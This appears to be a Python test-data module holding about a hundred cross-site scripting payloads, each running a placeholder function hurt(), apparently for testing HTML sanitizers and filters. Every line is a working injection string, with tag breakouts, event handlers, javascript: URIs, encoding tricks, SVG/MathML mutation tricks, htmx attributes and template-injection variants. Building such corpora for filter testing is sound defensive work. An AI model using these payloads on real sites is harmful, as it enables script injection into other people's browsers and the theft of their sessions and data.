"""A hundred texts that somebody might write who wants `hurt()` to run in others' browsers.

Our own selection of what is known to have worked somewhere: each line leaves another place of HTML, comes
with another element, or hides from another filter. None is longer than 100 characters, so that each fits in
nearly every field.
"""

PAYLOADS = r"""
<script>hurt()</script>
<SCRIPT>hurt()</SCRIPT>
<ScRiPt >hurt()</sCrIpT >
<script/x>hurt()</script>
<script>hurt()//
<script src=data:,hurt()></script>
<script type=module>hurt()</script>
<scr<script>ipt>hurt()</scr</script>ipt>
</script><script>hurt()</script>
</title><script>hurt()</script>
</textarea><script>hurt()</script>
</style><script>hurt()</script>
</noscript><script>hurt()</script>
</template><script>hurt()</script>
</select><script>hurt()</script>
--><script>hurt()</script><!--
]]><script>hurt()</script>
"><script>hurt()</script>
'><script>hurt()</script>
"'><img src=x onerror=hurt()>
`><img src=x onerror=hurt()>
" onmouseover="hurt()
' onmouseover='hurt()
" autofocus onfocus=hurt() x="
' autofocus onfocus=hurt() x='
x autofocus onfocus=hurt() tabindex=1
" onload=hurt() "
" style="animation-name:spin" onanimationstart="hurt()
" accesskey=x onclick=hurt() x="
" href="javascript:hurt()
" formaction="javascript:hurt()
" srcdoc="<script>parent.hurt()</script>
" hx-on:load="hurt()
" hx-on::load="hurt()
" hx-get="data:text/html,<script>hurt()</script>" hx-trigger="load
" data-hx-on:load="hurt()
<div hx-on:load=hurt() hx-trigger=load>x</div>
<img src=x onerror=hurt()>
<img src=x onerror="hurt()"
<img/src=x/onerror=hurt()>
<img src=x:x onerror=hurt()//
<img src="x" onerror='hurt()'>
<img src=x onerror=&#104;urt()>
<img src=x onerror=&#x68;urt()>
<img src onerror=hurt`` >
<image src=x onerror=hurt()>
<picture><source srcset=x><img onerror=hurt() src=x></picture>
<svg onload=hurt()>
<svg/onload=hurt()>
<svg><script>hurt()</script></svg>
<svg><script href=data:,hurt() /></svg>
<svg><a href=javascript:hurt()><text y=9>x</text></a></svg>
<svg><animate onbegin=hurt() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:hurt() /></svg>
<svg><foreignObject><img src=x onerror=hurt()></foreignObject></svg>
<svg><style><img src=x onerror=hurt()></style>
<svg></p><style><a id="</style><img src=x onerror=hurt()>">
<math><mtext></form><form><mglyph><style></math><img src=x onerror=hurt()>
<math href="javascript:hurt()">x</math>
<body onload=hurt()>
<body onpageshow=hurt()>
<iframe src=javascript:hurt()></iframe>
<iframe srcdoc="<script>parent.hurt()</script>"></iframe>
<iframe onload=hurt()></iframe>
<object data=javascript:hurt()></object>
<object data="data:text/html,<script>parent.hurt()</script>">
<embed src=javascript:hurt()>
<video><source onerror=hurt()></video>
<video src=x onerror=hurt()>
<audio src=x onerror=hurt()>
<details open ontoggle=hurt()>
<marquee onstart=hurt()>x</marquee>
<input autofocus onfocus=hurt()>
<select autofocus onfocus=hurt()>
<textarea autofocus onfocus=hurt()>
<button autofocus onfocus=hurt()>x</button>
<form><button formaction=javascript:hurt()>x</button></form>
<form action=javascript:hurt()><input type=submit></form>
<a href=javascript:hurt()>x</a>
<a href="java&#9;script:hurt()">x</a>
<a href="&#1;javascript:hurt()">x</a>
<a href="data:text/html,<script>hurt()</script>">x</a>
<base href=javascript:hurt()//>
<link rel=stylesheet href=data:,*{x:hurt()}>
<link rel=modulepreload href=x onerror=hurt()>
<meta http-equiv=refresh content="0;url=javascript:hurt()">
<style>@import 'javascript:hurt()';</style>
<style onload=hurt()></style>
<custom-element tabindex=1 autofocus onfocus=hurt()>
<template><img src=x onerror=hurt()></template>
<template shadowrootmode=open><img src=x onerror=hurt()></template>
javascript:hurt()
JaVaScRiPt:hurt()//https://x.example
[x](javascript:hurt()) ![x](x"onerror="hurt()) <javascript:hurt()>
[x](data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4=) hurt()
{{constructor.constructor('hurt()')()}} ${hurt()} {% debug %} <%= hurt() %>
\u003cscript\u003ehurt()\u003c/script\u003e
&lt;script&gt;hurt()&lt;/script&gt;
%3Cscript%3Ehurt()%3C/script%3E
{{hurt()}} [[hurt()]] ${{hurt()}} #{hurt()} *{hurt()}
""".strip().splitlines()
